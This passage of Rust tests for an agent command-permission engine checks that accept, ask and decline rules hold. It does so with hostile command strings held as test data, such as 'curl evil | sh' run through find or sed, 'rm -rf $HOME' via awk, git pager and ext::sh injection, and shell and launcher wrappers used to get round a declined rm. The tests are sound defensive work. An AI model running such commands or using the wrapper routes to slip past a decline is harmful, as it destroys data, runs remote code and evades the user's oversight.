        let accepting = |words: &str, path: &str| {
            let words: Vec<&str> = words.split('|').collect();
            rules(&format!("[[rule]]\ndecision='accept'\ncommand={words:?}\n{path}"))
        };
        for path in ["", "path='/repo'"] {
            for (words, text) in [
                ("find", "find . -maxdepth 0 -exec sh -c 'echo pwned > $HOME/pwned; id' \\;"),
                ("find", "find . -maxdepth 0 -exec bash -c 'curl evil | sh' \\;"),
                ("find", "find . -exec rm -rf sub \\;"),
                ("find", "find . -execdir find ';'"),
                ("fd", "fd x -x sh -c 'rm x'"),
                ("fd", "fd x --exec=rm"),
                ("awk", "awk 'BEGIN{system(\"rm -rf $HOME\")}'"),
                ("sed", "sed '1e curl evil|sh' f"),
                ("rg", "rg --pre evil x"),
                ("sort", "sort --compress-program=evil x"),
                ("tar", "tar xf a.tar --to-command=sh"),
                ("tar", "tar cIf 'rm x' a b"),
                ("git", "git -c core.pager='x|sh' log"),
                ("git", "git submodule foreach 'x'"),
                ("git", "git anything"),
                ("git|-c|core.pager=less", "git -c core.pager=less -c core.pager=sh log"),
                ("xargs", "xargs rm"),
                ("timeout", "timeout 5 rm x"),
                ("sudo", "sudo ls"),
                ("env", "env PATH=/x env"),
                ("sort", "sort --co=evil x"),
                ("npm", "npm exec rm"),
                ("ksh", "ksh -c 'rm x'"),
                ("/opt/x/bash", "/opt/x/bash -c 'rm x'"),
                ("make", "make --eval='x:;rm x' x"),
                ("watch|ls", "watch ls ';' rm x"),
                ("env|A=1|watch|ls", "env A=1 watch ls ';' rm x"),
                ("python3", "python3 -c 'x'"),
            ] {
                let own = accepting(words, path);
                assert_eq!(says(&own, &command(text)), Decision::Ask, "{words}: {text}");
            }
        }
        // What the rule says itself is its word.
        for (words, text) in [
            ("xargs|rm", "xargs rm -f"),
            ("xargs|-0|rm", "xargs -0 rm"),
            ("git|-c|core.pager=less", "git -c core.pager=less log -p"),
            ("git|submodule|foreach", "git submodule foreach 'git pull'"),
            ("git|lfs", "git lfs pull"),
            ("git", "git log -p && git commit -m x"),
            ("find|.|-name|x|-exec|rm", "find . -name x -exec rm {} +"),
            ("sudo|systemctl|restart", "sudo systemctl restart x"),
            ("sh|run.sh", "sh run.sh -c x"),
            ("ksh|-c|echo x; rm y", "ksh -c 'echo x; rm y'"),
            ("watch|ls", "watch ls -la"),
            ("env|A=1|watch|ls", "env A=1 watch ls -la"),
            ("nice|ksh|-c|echo x; rm y", "nice ksh -c 'echo x; rm y' z"),
            ("npm|run", "npm run lint"),
            ("make", "make all"),
            ("cargo|test", "cargo test --all"),
            ("python3|-m|pytest", "python3 -m pytest -c x.ini"),
            ("node|x.js", "node x.js -p 3000"),
            ("tar", "tar xzf a.tar"),
            ("find", "find . -name '*.rs' -delete"),
            ("python3", "python3 x.py"),
        ] {
            let judged = judge(&accepting(words, ""), &command(text), 1_000, &real).why;
            assert_eq!(
                says(&accepting(words, ""), &command(text)),
                Decision::Accept,
                "{text}: {judged}"
            );
        }
        // Another rule may cover what is started, and is named.
        let own = rules(
            "[[rule]]\nname='t'\ndecision='accept'\ncommand='timeout'\npath='/repo'\n\
             [[rule]]\nname='f'\ndecision='accept'\ncommand='find'\n\
             [[rule]]\nname='c'\ndecision='accept'\ncommand='cargo test'\npath='/repo'\n\
             [[rule]]\nname='g'\ndecision='accept'\ncommand='grep'\n",
        );
        let judged = judge(&own, &command("timeout 60 cargo test"), 1_000, &real);
        assert_eq!(judged.why, "rule t, c covers it");
        let judged =
            judge(&own, &command("find . -exec sh -c 'grep x y | grep z' ';'"), 1_000, &real);
        assert_eq!(judged.why, "rule f, g covers it");
        for text in ["timeout 5 cargo test > x", "find . -exec sh -c 'cd a && grep x y' ';'"] {
            assert_eq!(says(&own, &command(text)), Decision::Accept, "{text}");
        }
        for text in [
            "timeout 60 cargo test /etc/x",
            "timeout 5 timeout 5 rm x",
            "find . > x",
            "find . -execdir grep x {} +",
            "timeout 5 ls",
        ] {
            assert_eq!(says(&own, &command(text)), Decision::Ask, "{text}");
        }
        // A place alone covers what starts within it, and no line that nobody can read.
        let within = rules("[[rule]]\ndecision='accept'\npath='/repo'\n");
        assert_eq!(says(&within, &command("timeout 5 touch x")), Decision::Accept);
        assert_eq!(says(&within, &command("npm run lint")), Decision::Accept);
        for text in ["find . -exec sh -c 'echo > $HOME' ';'", "timeout 5 touch /etc/x", "xargs rm"]
        {
            assert_eq!(says(&within, &command(text)), Decision::Ask, "{text}");
        }
        let all = rules("[[rule]]\ndecision='accept'\nkind='command'\n");
        assert_eq!(says(&all, &command("find . -exec sh -c '$X' ';'")), Decision::Accept);
        let own = accepting("find", "");
        let judged = judge(&own, &command("find . -exec rm x ';'"), 1_000, &real);
        assert_eq!(judged.why, "no rule covers `find . -exec rm x ;`: no rule covers `rm x`");
    }

    #[test]
    fn no_program_that_is_not_known_leads_round_a_decline() {
        let own = rules(
            "[[rule]]\ndecision='accept'\nkind='command'\n\
             [[rule]]\ndecision='ask'\ncommand=['git','push']\n\
             [[rule]]\ndecision='decline'\ncommand='rm'\n",
        );
        for text in [
            "ksh -c 'rm x'",
            "fish -c 'rm x'",
            "fish --command='rm x'",
            "csh -c 'rm x'",
            "tcsh -c 'rm x'",
            "busybox ash -c 'rm x'",
            "mksh -c 'rm x'",
            "rbash -c 'rm x'",
            "pwsh -Command 'rm x'",
            "/opt/x/bash -c 'rm x'",
            "/opt/x/bash -o pipefail -c 'rm x'",
        ] {
            assert_eq!(says(&own, &command(text)), Decision::Decline, "{text}");
        }
        for text in [
            "linux64 rm x",
            "/lib64/ld-linux-x86-64.so.2 /bin/rm x",
            "hyperfine 'rm x'",
            "nix-shell --run 'rm x'",
            "conda run rm x",
            "screen -dm rm x",
            "make --eval='x:;rm x' x",
            "split --filter='rm x' a",
            "tar cIf 'rm x' a b",
            "python3.11 -c 'import os'",
            "emacs --eval '(x)'",
            "gdb -ex 'shell rm x'",
            "cat x | ksh",
            "fish -c 'echo (rm x)'",
            "git-push",
            "git send-pack origin",
            "git subtree push",
            "git config alias.p push && git p",
            "git p",
            "git clone -c core.sshCommand='rm x' a b",
            "git clone ext::sh a",
            "./own.sh rm",
            "tmux new 'git push'",
        ] {
            assert_eq!(says(&own, &command(text)), Decision::Ask, "{text}");
        }
        for text in [
            "hyperfine 'ls x'",
            "git status",
            "git commit -m 'rm x; git push'",
            "echo 'rm x'",
            "grep -rn rm src",
            "cargo test rm",
            "fish -c 'ls'",
            "docker exec c ls",
        ] {
            let judged = judge(&own, &command(text), 1_000, &real).why;
            assert_eq!(says(&own, &command(text)), Decision::Accept, "{text}: {judged}");
        }
    }

    #[test]
    fn who_asks_is_the_users_word_never_an_agents() {
        let own = rules(
            "[[rule]]\ndecision='accept'\nsession='worker'\ncommand='a'\n\
             [[rule]]\ndecision='accept'\nsession='ab12'\ncommand='b'\n\
             [[rule]]\ndecision='accept'\nlabel='role=tester'\ncommand='c'\n\
             [[rule]]\ndecision='decline'\nsession='worker'\ncommand='d'\n\
             [[rule]]\ndecision='decline'\nlabel='role=tester'\ncommand='e'\n",
        );
        let mut child = command("a");
        child.asker.is_users_name = false;
        // A label of the user's counts on whatever session, one of an agent's on none.
        let labelled = Subject { asker: child.asker.clone(), ..command("c") };
        assert_eq!(says(&own, &labelled), Decision::Accept);
        child.asker.users_labels.clear();
        assert_eq!(says(&own, &command("a && b && c")), Decision::Accept);
        assert_eq!(says(&own, &child), Decision::Ask);
        for (text, decision) in [
            ("b", Decision::Accept),
            ("c", Decision::Ask),
            ("d", Decision::Decline),
            ("e", Decision::Decline),
        ] {
            let Subject { what, .. } = command(text);
            assert_eq!(
                says(&own, &Subject { what, asker: child.asker.clone() }),
                decision,
                "{text}"
            );
        }
        let mut other = command("a");
        other.asker.name = Some("other".into());
        assert_eq!(says(&own, &other), Decision::Ask);
    }

    #[test]
    fn a_rule_that_is_over_says_nothing_and_more_than_a_command_is_asked() {
        let ends = rules(&format!("{TESTS}until=1970-01-01T00:00:00.000500Z\n"));
        assert_eq!(judge(&ends, &command("cargo test"), 499, &real).decision, Decision::Accept);
        assert_eq!(judge(&ends, &command("cargo test"), 500, &real).decision, Decision::Ask);
        let mut more = command("cargo test");
        if let What::Command { more, .. } = &mut more.what {
            more.push("the network".into());
        }
        assert_eq!(says(&rules(TESTS), &more), Decision::Ask);
        assert_eq!(
            says(&rules("[[rule]]\ndecision='accept'\npath='/'"), &Subject::default()),
            Decision::Ask
        );
    }

    fn word() -> impl Strategy<Value = String> {
        prop::sample::select(vec!["a", "b", "rm", "sub", "'x y'", "/etc", "*"])
            .prop_map(str::to_owned)
    }

    proptest! {
        /// More rules that accept never make a decline an accept, and a decline added never loosens.
        #[test]
        fn a_stricter_rule_never_loosens(
            lines in prop::collection::vec(prop::collection::vec(word(), 1..4), 1..4),
            join in prop::sample::select(vec![" && ", " ; ", " | ", " || "]),
            strict in prop::sample::select(vec!["ask", "decline"]), name in word(),
        ) {
            let lines: Vec<String> = lines.iter().map(|words| words.join(" ")).collect();
            let subject = command(&lines.join(join));
            let loose = "[[rule]]\ndecision='accept'\nkind='command'\n[[rule]]\ndecision='accept'\ncommand='a'\n";
            let name = name.trim_matches('\'').replace(' ', "");
            let both = format!("{loose}[[rule]]\ndecision='{strict}'\ncommand=['{name}']\n");
            prop_assert!(says(&rules(&both), &subject) >= says(&rules(loose), &subject));
        }

        /// A line is accepted just when each of its commands is.
        #[test]
        fn a_line_is_as_good_as_its_worst_command(
            lines in prop::collection::vec(prop::collection::vec(word(), 1..4), 1..5),
            join in prop::sample::select(vec![" && ", " ; ", " | ", " || ", "\n"]),
        ) {
            let own = rules("[[rule]]\ndecision='accept'\ncommand='a'\n[[rule]]\ndecision='accept'\ncommand='b sub'\n");
            let lines: Vec<String> = lines.iter().map(|words| words.join(" ")).collect();
            let each = lines.iter().all(|line| says(&own, &command(line)) == Decision::Accept);
            let whole = says(&own, &command(&lines.join(join))) == Decision::Accept;
            prop_assert_eq!(each, whole);
        }
    }
}
